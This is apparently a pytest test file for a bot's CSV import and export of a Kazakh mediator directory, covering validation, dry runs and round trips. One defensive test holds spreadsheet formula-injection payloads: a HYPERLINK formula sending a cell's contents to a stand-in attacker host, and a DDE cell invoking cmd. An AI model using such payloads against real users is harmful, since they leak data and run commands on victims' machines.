"""Importing and exporting the directory as CSV, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import create_engine, func, select
from sqlalchemy.orm import Session

from bot.config import ROOT
from bot.directory import csvio
from bot.directory.models import Listing
from bot.places.gazetteer import default as gazetteer
from bot.storage import migrate
from bot.storage.urls import sync_url

DATA = ROOT / "tests" / "data" / "directory"
TODAY = dt.date(2026, 11, 26)


@pytest.fixture
def session(database_url: str) -> Iterator[Session]:
    migrate.upgrade(database_url)
    engine = create_engine(sync_url(database_url))
    with Session(engine) as s:
        yield s
    engine.dispose()


def count(session: Session) -> int:
    return session.scalar(select(func.count()).select_from(Listing)) or 0


def import_file(session: Session, name: str, **kw: bool) -> csvio.ImportReport:
    text = (DATA / name).read_text(encoding="utf-8")
    return csvio.import_text(session, text, gazetteer(), today=TODAY, **kw)


def test_a_good_file_is_imported_then_exported_the_same(session: Session) -> None:
    report = import_file(session, "good.csv")
    assert report.problems == []
    assert report.written
    assert (report.created, report.updated) == (3, 0)
    rows = {r.entry: r for r in session.scalars(select(Listing))}
    assert rows["TC-001"].phone == "+77010000001"
    assert rows["AK-17"].phone == "+77270000002"
    assert rows["AK-17"].telegram == "test_mediator"
    assert csvio.split(rows["ROOM-1"].languages) == ["kk", "ru", "en"]
    assert csvio.split(rows["AK-17"].dispute_types) == ["property", "community"]
    assert rows["TC-001"].region_id == rows["TC-001"].settlement_id  # Shymkent is its own region
    exported = csvio.export_text(session)
    again = csvio.import_text(session, exported, gazetteer(), today=TODAY)
    assert again.problems == []
    assert (again.created, again.updated) == (0, 3)
    assert csvio.export_text(session) == exported


def test_an_import_updates_by_register_and_entry(session: Session) -> None:
    import_file(session, "good.csv")
    text = (DATA / "good.csv").read_text(encoding="utf-8").replace("Test Mediator One", "Renamed")
    report = csvio.import_text(session, text, gazetteer(), today=TODAY)
    assert (report.created, report.updated) == (0, 3)
    assert session.scalar(select(Listing.name).where(Listing.entry == "TC-001")) == "Renamed"
    assert count(session) == 3


def test_a_bad_file_reports_every_bad_row_and_changes_nothing(session: Session) -> None:
    import_file(session, "good.csv")
    before = csvio.export_text(session)
    report = import_file(session, "bad.csv")
    assert not report.written
    assert report.bad_lines == list(range(3, 12))
    by_line = {p.line: (p.field, p.message) for p in reversed(report.problems)}
    assert by_line[3][0] == "kind"
    assert by_line[4][0] == "phone"
    assert by_line[5][0] == "lat"
    assert "outside Kazakhstan" in by_line[5][1]
    assert by_line[6][0] == "languages"
    assert "de" in by_line[6][1]
    assert by_line[7][0] == "dispute_types"
    assert "divorce" in by_line[7][1]
    assert by_line[8][0] == "entry"
    assert "missing" in by_line[8][1]
    assert by_line[9][0] == "entry"
    assert "duplicate of line 2" in by_line[9][1]
    assert by_line[10][0] == "verified_on"
    assert by_line[11][0] == "settlement"
    assert csvio.export_text(session) == before


def test_skip_bad_rows_writes_only_the_valid_ones(session: Session) -> None:
    report = import_file(session, "bad.csv", skip_bad_rows=True)
    assert report.written
    assert report.created == 1
    assert count(session) == 1


def test_a_dry_run_writes_nothing(session: Session) -> None:
    report = import_file(session, "good.csv", dry_run=True)
    assert report.valid == 3
    assert not report.written
    assert count(session) == 0


def test_a_file_without_the_needed_columns(session: Session) -> None:
    report = csvio.import_text(session, "name,phone\nX,+77010000000\n", gazetteer(), today=TODAY)
    assert {p.field for p in report.problems} >= {"kind", "register", "entry", "lat"}
    assert count(session) == 0


def test_semicolons_and_a_byte_order_mark_from_excel(session: Session) -> None:
    text = (DATA / "good.csv").read_text(encoding="utf-8")
    header = text.splitlines()[0]
    excel = "\ufeff" + header.replace(",", ";") + "\n"
    excel += "professional;Semi Colon;Test Chamber;SC-1;kk,ru;family;Astana;;51.17;71.45;"
    excel += "+77010000009;;;no;;2026-11-01;test;yes\n"
    report = csvio.import_text(session, excel, gazetteer(), today=TODAY)
    assert report.problems == []
    assert report.created == 1


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("+7 701 234 56 78", "+77012345678"), ("87012345678", "+77012345678"),
        ("8 (7172) 55-55-55", "+77172555555"), ("+7-727-123-45-67", "+77271234567"),
        ("12345", None), ("+44 20 7946 0958", None), ("call me", None),
    ],
)  # fmt: skip
def test_phone_numbers(raw: str, expected: str | None) -> None:
    assert csvio.phone_number(raw) == expected


@pytest.mark.slow
def test_the_command_line(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    env = {"DATABASE_URL": url, "PATH": "/usr/bin:/bin", "KELISIM_VAR_DIR": str(tmp_path)}

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "bot", "mediators", *args],
            capture_output=True, text=True, cwd=ROOT, env=env, check=False,
        )  # fmt: skip

    bad = run("import", str(DATA / "bad.csv"))
    assert bad.returncode == 1
    assert "line 4, phone:" in bad.stdout
    assert "nothing written" in bad.stdout
    dry = run("import", "--dry-run", str(DATA / "good.csv"))
    assert dry.returncode == 0
    assert "nothing written (--dry-run)" in dry.stdout
    good = run("import", str(DATA / "good.csv"))
    assert good.returncode == 0
    assert "3 added" in good.stdout
    out = tmp_path / "out.csv"
    assert run("export", str(out)).returncode == 0
    assert out.read_text(encoding="utf-8").count("\n") == 4
    assert "usage" in run("--help").stdout


def test_an_empty_directory_gets_the_sample_listings_once(database_url: str) -> None:
    from bot.directory.loading import ensure_samples

    migrate.upgrade(database_url)
    added = ensure_samples(database_url, gazetteer())
    assert 250 <= added <= 350
    assert ensure_samples(database_url, gazetteer()) == 0
    engine = create_engine(sync_url(database_url))
    with Session(engine) as s:
        rows = list(s.scalars(select(Listing)))
        regions = {r.region_id for r in rows}
    engine.dispose()
    assert all(r.sample and r.phone.startswith("+7700") for r in rows)
    assert len(regions) == 20  # every region and city of republican significance


def test_imported_and_moved_listings_keep_their_latitude_band(session: Session) -> None:
    from bot.directory.models import lat_band

    import_file(session, "good.csv")
    text = (DATA / "good.csv").read_text(encoding="utf-8")
    first = session.scalars(select(Listing).order_by(Listing.id)).first()
    assert first is not None
    moved = text.replace(f"{first.lat:.6f}".rstrip("0"), "47.1000", 1)
    assert moved != text
    csvio.import_text(session, moved, gazetteer(), today=TODAY)
    session.expire_all()
    rows = list(session.scalars(select(Listing)))
    assert any(r.lat == 47.1 for r in rows)
    assert all(r.lat_band == lat_band(r.lat) for r in rows)


def _one_row(**cells: str) -> str:
    """good.csv's header and first row, with some cells replaced."""
    header, first = (DATA / "good.csv").read_text(encoding="utf-8").splitlines()[:2]
    delimiter = ";" if header.count(";") > header.count(",") else ","
    names = header.split(delimiter)
    row = dict(zip(names, next(csv.reader([first], delimiter=delimiter)), strict=True))
    row.update(cells)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=names, delimiter=delimiter, lineterminator="\n")
    writer.writeheader()
    writer.writerow(row)
    return out.getvalue()


def test_cells_that_a_spreadsheet_would_run_are_exported_as_text(session: Session) -> None:
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open record")'
    text = _one_row(name=formula, address="@SUM(1+1)*cmd|' /C calc'!A0", fee_note="+1 visit",
                    source="-2+3")  # fmt: skip
    report = csvio.import_text(session, text, gazetteer(), today=TODAY)
    assert report.problems == []
    assert report.written
    exported = csvio.export_text(session)
    for row in csv.DictReader(io.StringIO(exported)):
        cells = [v for k, v in row.items() if k not in ("phone", "lat", "lon")]
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells)
    assert "'=HYPERLINK" in exported
    assert "'@SUM" in exported
    assert "'+1 visit" in exported
    # The phone number keeps its +, and the file imports back to the same values.
    assert "+7" in exported
    again = csvio.import_text(session, exported, gazetteer(), today=TODAY)
    assert again.problems == []
    assert again.updated == 1
    assert session.scalars(select(Listing)).one().name == formula


@pytest.mark.parametrize(
    ("cells", "column", "message"),
    [
        ({"name": "Aigerim\x00 Nurlanova"}, "name", "control character"),
        ({"address": "Main st.\x07 5"}, "address", "control character"),
        ({"fee_note": "x" * 301}, "fee_note", "too long: 301 characters"),
    ],
)
def test_control_characters_and_overlong_cells_are_refused_with_line_and_column(
    session: Session, cells: dict[str, str], column: str, message: str
) -> None:
    report = csvio.import_text(session, _one_row(**cells), gazetteer(), today=TODAY)
    assert not report.written
    assert count(session) == 0
    [problem] = [p for p in report.problems if p.field == column]
    assert problem.line == 2
    assert message in problem.message
